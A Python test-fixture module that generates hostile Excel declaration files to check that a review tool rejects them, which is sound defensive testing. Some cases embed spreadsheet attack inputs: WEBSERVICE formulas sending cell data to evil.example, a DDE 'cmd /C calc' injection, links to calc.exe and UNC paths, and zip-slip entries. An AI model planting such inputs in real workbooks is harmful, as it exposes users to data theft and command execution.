"""A hostile corpus for the review (issue 9, items 4, 6, 8 and 9), generated, never committed.

Each case is a genuine declaration (or a bare file) with one hostile change, and the problem code the
review must fail it with. ``write_corpus(folder)`` writes every case; the tests review them file by file
and as one batch mixed with genuine declarations, and ``benchmarks/bench_hostile.py`` measures the
worst of them (time and peak memory, each in a fresh process).
"""

from __future__ import annotations

import io
import os
import random
import re
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from test_review import declaration, replace_part, set_cell

CLAUSE = "etown:27"
OD = "application/vnd.openxmlformats-officedocument."
R06 = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS06 = "http://schemas.microsoft.com/office/2006/relationships/"
INPUTS = "xl/worksheets/sheet3.xml"  # 申报内容 Inputs: capacity_kw is D5
APPLICANT = "xl/worksheets/sheet2.xml"
WORKBOOK = "xl/workbook.xml"
MiB = 1024 * 1024


@cache
def base(project: str) -> bytes:
    """A genuine etown:27 declaration (100 kW own PV, 80,000 yuan) with its own project id: a hostile file
    never makes a genuine one of the same batch a duplicate."""
    return declaration(CLAUSE, {"capacity_kw": 100, "zone": "etown_core"}, project=project)


def rebuild(
    data: bytes,
    *,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    entries: list[tuple[str, bytes]] | None = None,
) -> bytes:
    """The zip again, parts added (or replaced) and dropped, raw ``entries`` appended as they are."""
    add = dict(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            dst.writestr(info.filename, add.pop(info.filename, None) or src.read(info.filename))
        for name, body in add.items():
            dst.writestr(name, body)
        with warnings.catch_warnings():  # a duplicate name is the point of one case
            warnings.simplefilter("ignore", UserWarning)
            for name, body in entries or ():
                dst.writestr(zipfile.ZipInfo(name), body)
    return out.getvalue()


def read(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name).decode("utf-8")


def with_parts(
    data: bytes, parts: dict[str, bytes], types: dict[str, str] | None = None, rels: dict[str, list[str]] | None = None
) -> bytes:
    """Parts added, with their content types (Override) and relationships (``<Relationship .../>`` texts)."""
    add = dict(parts)
    if types:
        text = read(data, "[Content_Types].xml")
        overrides = "".join(f'<Override PartName="/{name}" ContentType="{ct}"/>' for name, ct in types.items())
        add["[Content_Types].xml"] = text.replace("</Types>", overrides + "</Types>").encode()
    for rels_name, items in (rels or {}).items():
        try:
            text = read(data, rels_name)
        except KeyError:
            text = (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
            )
        add[rels_name] = text.replace("</Relationships>", "".join(items) + "</Relationships>").encode()
    return rebuild(data, add=add)


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def in_sheet(data: bytes, part: str, before: str, xml: str) -> bytes:
    return replace_part(data, part, lambda t: t.replace(before, xml + before, 1))


def input_formula(project: str, formula: str) -> bytes:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return set_cell(base(project), CLAUSE, "capacity_kw", f'<c r="{{ref}}"><f>{escaped}</f><v>100</v></c>')


def sheet_added(project: str, state: str, name: str = "x") -> bytes:
    data = base(project)
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>hidden payload</t></is></c></row></sheetData></worksheet>'
    )
    data = with_parts(
        data,
        {"xl/worksheets/sheet99.xml": sheet},
        {"xl/worksheets/sheet99.xml": OD + "spreadsheetml.worksheet+xml"},
        {"xl/_rels/workbook.xml.rels": [rel("rId99", R06 + "worksheet", "/xl/worksheets/sheet99.xml")]},
    )
    return replace_part(
        data,
        WORKBOOK,
        lambda t: t.replace("</sheets>", f'<sheet name="{name}" sheetId="99" state="{state}" r:id="rId99" /></sheets>'),
    )


def defined_name(project: str, xml: str) -> bytes:
    return replace_part(base(project), WORKBOOK, lambda t: t.replace("</definedNames>", xml + "</definedNames>"))


def elements_at_ratio(mib: int, longest_run: int = 190) -> bytes:
    """``mib`` MiB of ``<x/>`` that deflate at about 73:1 (under the 100:1 zip-bomb limit, as in issue 9): runs of
    a random length up to ``longest_run``, separated by a random byte in an attribute."""
    rng = random.Random(9)
    chunks, size = [], 0
    while size < mib * MiB:
        run = b"<x/>" * rng.randint(1, longest_run) + b'<y a="%02x"/>' % rng.randrange(256)
        chunks.append(run)
        size += len(run)
    return b"".join(chunks)


def row_without_r(cells: int) -> bytes:
    return replace_part(
        base("H-004"),
        INPUTS,
        lambda t: t.replace("</sheetData>", '<row r="40">' + "<c><v>1</v></c>" * cells + "</row></sheetData>"),
    )


def many_labels_edited(project: str) -> bytes:
    """Every label of the cover and applicant sheets replaced (via shared strings would be subtler; inline is enough)."""
    data = base(project)
    for part in ("xl/worksheets/sheet1.xml", APPLICANT, INPUTS, "xl/worksheets/sheet4.xml", "xl/worksheets/sheet5.xml"):
        data = replace_part(
            data, part, lambda t: re.sub(r"(<c r=\"[AB]\d+\"[^>]*t=\"inlineStr\"[^>]*><is><t[^>]*>)", r"\1X", t)
        )
    return data


def validations(project: str, count: int, sqref: str) -> bytes:
    dv = f'<dataValidation type="whole" sqref="{sqref}"><formula1>0</formula1></dataValidation>' * count
    return replace_part(
        base(project),
        "xl/worksheets/sheet1.xml",
        lambda t: t.replace("</sheetData>", f'</sheetData><dataValidations count="{count}">{dv}</dataValidations>', 1),
    )


def long_formula(seed: int, chars: int = 8000) -> str:
    """A formula of about ``chars`` characters that does not compress like a bomb."""
    rng = random.Random(seed)
    terms, size = [], 0
    while size < chars:
        terms.append(str(rng.randrange(10**6)))
        size += len(terms[-1]) + 1
    return "+".join(terms)


@dataclass(frozen=True)
class Case:
    name: str  # the file name (bytes for a name that is not UTF-8)
    code: str  # the problem code the review must give it
    build: Callable[[], bytes]
    item: str  # the item


VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024  # an OLE compound file header, as vbaProject.bin is

CASES: list[Case] = [
    # item 4: whatever one file does is that file's problem
    Case("row_without_r_20000.xlsx", "xml", lambda: row_without_r(20_000), "4"),
    Case(
        "shadowing_name_bad_sheet_id.xlsx",
        "tampered",
        lambda: defined_name(
            "H-005", f'<definedName name="AWARD" localSheetId="{"9" * 5000}">\'奖励测算 Award\'!$C$16</definedName>'
        ),
        "4",
    ),
    Case(
        "shared_string_index_huge.xlsx",
        "invalid",
        lambda: set_cell(base("H-006"), CLAUSE, "capacity_kw", f'<c r="{{ref}}" t="s"><v>{"9" * 5000}</v></c>'),
        "4",
    ),
    Case(
        "cell_ref_lowercase.xlsx",
        "xml",
        lambda: set_cell(base("H-007"), CLAUSE, "capacity_kw", '<c r="d5"><v>100</v></c>'),
        "4",
    ),
    Case(
        "cell_twice.xlsx",
        "xml",
        lambda: set_cell(
            base("H-008"), CLAUSE, "capacity_kw", '<c r="{ref}"><v>100</v></c><c r="{ref}"><v>900</v></c>'
        ),
        "4",
    ),
    # item 8: bounded work
    Case(
        "exponent_text.xlsx",
        "number_out_of_range",
        lambda: set_cell(
            base("H-010"), CLAUSE, "capacity_kw", '<c r="{ref}" t="inlineStr"><is><t>-1e99999999</t></is></c>'
        ),
        "8",
    ),
    Case(
        "exponent_in_formula.xlsx",
        "tampered",
        lambda: set_cell(
            base("H-011"), CLAUSE, "award", edit=lambda c: re.sub(r"<f>.*?</f>", "<f>ROUND(1E99999999,2)</f>", c)
        ),
        "8",
    ),
    Case(
        "number_1e25.xlsx",
        "number_out_of_range",
        lambda: set_cell(base("H-012"), CLAUSE, "capacity_kw", '<c r="{ref}"><v>1e25</v></c>'),
        "8",
    ),
    Case(
        "number_inf.xlsx",
        "number_out_of_range",
        lambda: set_cell(base("H-013"), CLAUSE, "capacity_kw", '<c r="{ref}"><v>1e999</v></c>'),
        "8",
    ),
    Case(
        "elements_60MiB_73to1.xlsx",
        "too_large",
        lambda: rebuild(
            base("H-014"),
            add={
                INPUTS: read(base("H-014"), INPUTS)
                .encode()
                .replace(b"</worksheet>", elements_at_ratio(60) + b"</worksheet>")
            },
        ),
        "8",
    ),  # bytes throughout: 60 MiB, not four copies
    Case(
        "elements_outside_rows.xlsx",
        "too_large",
        lambda: in_sheet(base("H-015"), INPUTS, "</worksheet>", elements_at_ratio(3).decode()),
        "8",
    ),
    Case(
        "cells_25000.xlsx",
        "too_large",
        lambda: replace_part(
            base("H-016"),
            INPUTS,
            lambda t: t.replace(
                "</sheetData>",
                "".join(f'<row r="{100 + i}">' + "<c><v>1</v></c>" * 100 + "</row>" for i in range(250))
                + "</sheetData>",
            ),
        ),
        "8",
    ),
    Case(
        "validations_199_overlapping.xlsx", "too_many_validations", lambda: validations("H-017", 199, "A1:CV1000"), "8"
    ),
    Case("validations_2000.xlsx", "too_large", lambda: validations("H-018", 2000, "Z1"), "8"),
    Case(
        "formula_9000_chars.xlsx",
        "too_large",
        lambda: set_cell(
            base("H-019"), CLAUSE, "award", edit=lambda c: re.sub(r"<f>.*?</f>", "<f>" + "1+" * 4500 + "1</f>", c)
        ),
        "8",
    ),
    Case(
        "validations_long_formulas.xlsx",
        "too_large",
        lambda: replace_part(
            base("H-022"),
            "xl/worksheets/sheet1.xml",
            lambda t: t.replace(
                "</sheetData>",
                '</sheetData><dataValidations count="400">'
                + "".join(
                    f'<dataValidation type="custom" sqref="Z{i + 1}"><formula1>{long_formula(i)}</formula1></dataValidation>'
                    for i in range(400)
                )
                + "</dataValidations>",
                1,
            ),
        ),
        "8",
    ),
    Case(
        "shared_formula_copies.xlsx",
        "too_large",
        lambda: replace_part(
            base("H-023"),
            INPUTS,
            lambda t: t.replace(
                "</sheetData>",
                '<row r="60"><c r="H60"><f t="shared" si="7" ref="H60:H3000">'
                + "1+" * 3000
                + "1</f></c></row>"
                + "".join(f'<row r="{r}"><c r="H{r}"><f t="shared" si="7"/></c></row>' for r in range(61, 3000))
                + "</sheetData>",
            ),
        ),
        "8",
    ),
    Case(
        "text_100k_chars.xlsx",
        "text_too_long",
        lambda: set_cell(
            base("H-020"), CLAUSE, "enterprise", f'<c r="{{ref}}" t="inlineStr"><is><t>{"长" * 100_000}</t></is></c>'
        ),
        "8,9",
    ),
    Case("many_problems.xlsx", "more", lambda: many_labels_edited("H-021"), "8"),
    # item 9: dangerous content fails
    Case(
        "macro_vba.xlsx",
        "macro",
        lambda: with_parts(
            replace_part(
                base("H-030"),
                "[Content_Types].xml",
                lambda t: t.replace(
                    OD + "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                ),
            ),
            {"xl/vbaProject.bin": VBA},
            {"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
            {"xl/_rels/workbook.xml.rels": [rel("rId90", MS06 + "vbaProject", "vbaProject.bin")]},
        ),
        "9",
    ),
    Case("macro_orphan_vba_part.xlsx", "macro", lambda: rebuild(base("H-031"), add={"xl/vbaProject.bin": VBA}), "9"),
    Case("genuine_but_named.xlsm", "macro", lambda: base("H-032"), "9"),
    Case(
        "macro_sheet_xlm.xlsx",
        "macro",
        lambda: with_parts(
            base("H-033"),
            {
                "xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'/>"
            },
            {"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
            {"xl/_rels/workbook.xml.rels": [rel("rId91", MS06 + "xlMacrosheet", "macrosheets/sheet1.xml")]},
        ),
        "9",
    ),
    Case(
        "auto_open_name.xlsx",
        "macro",
        lambda: defined_name("H-034", "<definedName name=\"_xlnm.Auto_Open\">'lists'!$A$1</definedName>"),
        "9",
    ),
    Case(
        "external_link.xlsx",
        "external_link",
        lambda: with_parts(
            base("H-035"),
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            },
            {"xl/externalLinks/externalLink1.xml": OD + "spreadsheetml.externalLink+xml"},
            {
                "xl/_rels/workbook.xml.rels": [rel("rId92", R06 + "externalLink", "externalLinks/externalLink1.xml")],
                "xl/externalLinks/_rels/externalLink1.xml.rels": [
                    rel("rId1", R06 + "externalLinkPath", "file:///C:/evil/other.xlsx", True)
                ],
            },
        ),
        "9",
    ),
    Case(
        "webservice_in_input.xlsx",
        "input_formula",
        lambda: input_formula("H-036", 'WEBSERVICE("http://evil.example/?"&C3)'),
        "9",
    ),
    Case("dde_in_input.xlsx", "input_formula", lambda: input_formula("H-037", "cmd|' /C calc'!A0"), "9"),
    Case("external_ref_in_input.xlsx", "input_formula", lambda: input_formula("H-038", "[1]Sheet1!A1"), "9"),
    Case(
        "formula_outside_template.xlsx",
        "extra_formula",
        lambda: replace_part(
            base("H-039"),
            INPUTS,
            lambda t: t.replace(
                "</sheetData>", '<row r="60"><c r="H60"><f>WEBSERVICE("http://evil.example/")</f></c></row></sheetData>'
            ),
        ),
        "9",
    ),
    Case(
        "conditional_format_formula.xlsx",
        "extra_formula",
        lambda: in_sheet(
            base("H-040"),
            INPUTS,
            "<dataValidations",
            '<conditionalFormatting sqref="D5"><cfRule type="expression" priority="1">'
            '<formula>LEN(WEBSERVICE("http://evil.example/"))&gt;0</formula></cfRule></conditionalFormatting>',
        ),
        "9",
    ),
    Case(
        "name_with_formula.xlsx",
        "extra_formula",
        lambda: defined_name("H-041", '<definedName name="X">WEBSERVICE("http://evil.example/")</definedName>'),
        "9",
    ),
    Case("extra_sheet_hidden.xlsx", "extra_sheet", lambda: sheet_added("H-042", "hidden"), "9"),
    Case("extra_sheet_very_hidden.xlsx", "extra_sheet", lambda: sheet_added("H-043", "veryHidden"), "9"),
    Case("sheet_named_twice.xlsx", "extra_sheet", lambda: sheet_added("H-061", "hidden", "meta"), "9"),
    Case(
        "activex.xlsx",
        "activex",
        lambda: with_parts(
            base("H-044"),
            {
                "xl/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
                "xl/activeX/activeX1.bin": VBA,
            },
            {
                "xl/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
                "xl/activeX/activeX1.bin": "application/vnd.ms-office.activeX",
            },
            {"xl/worksheets/_rels/sheet3.xml.rels": [rel("rId1", R06 + "control", "../activeX/activeX1.xml")]},
        ),
        "9",
    ),
    Case(
        "ole_embedding.xlsx",
        "embedded_object",
        lambda: with_parts(
            base("H-045"),
            {"xl/embeddings/oleObject1.bin": VBA},
            {"xl/embeddings/oleObject1.bin": OD + "oleObject"},
            {"xl/worksheets/_rels/sheet3.xml.rels": [rel("rId1", R06 + "oleObject", "../embeddings/oleObject1.bin")]},
        ),
        "9",
    ),
    Case(
        "ole_link_external.xlsx",
        "external_target",
        lambda: with_parts(
            base("H-046"),
            {},
            None,
            {
                "xl/worksheets/_rels/sheet3.xml.rels": [
                    rel("rId1", R06 + "oleObject", "file:///C:/Windows/System32/calc.exe", True)
                ]
            },
        ),
        "9",
    ),
    Case(
        "custom_ui.xlsx",
        "custom_ui",
        lambda: with_parts(
            base("H-047"),
            {
                "customUI/customUI14.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"/>'
            },
            None,
            {
                "_rels/.rels": [
                    rel(
                        "rId9",
                        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                        "customUI/customUI14.xml",
                    )
                ]
            },
        ),
        "9",
    ),
    Case(
        "data_connection.xlsx",
        "data_connection",
        lambda: with_parts(
            base("H-048"),
            {"xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'},
            {"xl/connections.xml": OD + "spreadsheetml.connections+xml"},
            {"xl/_rels/workbook.xml.rels": [rel("rId93", R06 + "connections", "connections.xml")]},
        ),
        "9",
    ),
    Case(
        "query_table.xlsx",
        "query_table",
        lambda: with_parts(
            base("H-049"),
            {
                "xl/queryTables/queryTable1.xml": b'<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            },
            {"xl/queryTables/queryTable1.xml": OD + "spreadsheetml.queryTable+xml"},
            {
                "xl/worksheets/_rels/sheet3.xml.rels": [
                    rel("rId1", R06 + "queryTable", "../queryTables/queryTable1.xml")
                ]
            },
        ),
        "9",
    ),
    Case(
        "web_extension.xlsx",
        "web_extension",
        lambda: with_parts(
            base("H-050"),
            {
                "xl/webextensions/webextension1.xml": b"<we:webextension xmlns:we='http://schemas.microsoft.com/office/webextensions/webextension/2010/11'/>"
            },
            {"xl/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml"},
        ),
        "9",
    ),
    Case(
        "hyperlink_to_unc_path.xlsx",
        "external_target",
        lambda: with_parts(
            base("H-051"),
            {},
            None,
            {
                "xl/worksheets/_rels/sheet3.xml.rels": [
                    rel("rId1", R06 + "hyperlink", "file://\\\\evil\\share\\x", True)
                ]
            },
        ),
        "9",
    ),
    Case(
        "unknown_part.xlsx",
        "unexpected_part",
        lambda: with_parts(
            base("H-052"),
            {"xl/evil/payload.bin": b"MZ" + b"\0" * 100},
            {"xl/evil/payload.bin": "application/octet-stream"},
        ),
        "9",
    ),
    Case("zip_slip.xlsx", "zip_slip", lambda: rebuild(base("H-053"), entries=[("../../evil.xml", b"<x/>")]), "9"),
    Case("absolute_entry.xlsx", "zip_slip", lambda: rebuild(base("H-054"), entries=[("/tmp/evil.xml", b"<x/>")]), "9"),
    Case(
        "duplicate_entry.xlsx",
        "duplicate_entry",
        lambda: rebuild(
            base("H-055"), entries=[(INPUTS, read(base("H-055"), INPUTS).replace("<v>100</v>", "<v>900</v>").encode())]
        ),
        "9",
    ),
    Case(
        "name_differs_by_case.xlsx",
        "name_case",
        lambda: replace_part(
            base("H-056"), WORKBOOK, lambda t: t.replace('<definedName name="AWARD">', '<definedName name="Award">')
        ),
        "9",
    ),
    Case(
        "name_defined_twice.xlsx",
        "defined_name",
        lambda: defined_name("H-057", "<definedName name=\"award\">'奖励测算 Award'!$C$16</definedName>"),
        "9",
    ),
    Case("legacy.xls", "not_xlsx", lambda: VBA, "9"),
    Case(
        "renamed_table.csv",
        "file_type",
        lambda: "enterprise,uscc\n北京绿色制造有限公司,91350100M000100Y43\n".encode("gbk"),
        "9",
    ),
    Case("declaration_renamed.csv", "file_type", lambda: base("H-058"), "9"),
    Case("no_extension", "file_type", lambda: base("H-059"), "9"),
    # item 6: a name that is not UTF-8 (GBK from unzip), hostile content
    Case("宏申报表.xlsm".encode("gbk"), "macro", lambda: base("H-060"), "6,9"),
]

#: Genuine content under a GBK name (must pass), and an Office lock file (must be listed as skipped).
GBK_GENUINE = "绿色申报表.xlsx".encode("gbk")
LOCK_FILE = "~$owner.xlsx"


def file_name(case: Case | bytes | str) -> str:
    """The name as a str path component (non-UTF-8 bytes kept by surrogateescape, as os.listdir gives them)."""
    name = case.name if isinstance(case, Case) else case
    return os.fsdecode(name) if isinstance(name, bytes) else name


def write_corpus(folder: Path, cases: list[Case] = CASES) -> dict[str, Case]:
    """Every case written into ``folder`` (created); the GBK-named genuine declaration and a lock file too.
    Returns the cases by their file name as the file system gives it back."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in cases:
        name = file_name(case)
        (folder / name).write_bytes(case.build())
        out[name] = case
    (folder / file_name(GBK_GENUINE)).write_bytes(base("G-900"))
    (folder / LOCK_FILE).write_bytes(b"\x0bowner name\0" * 8)
    return out
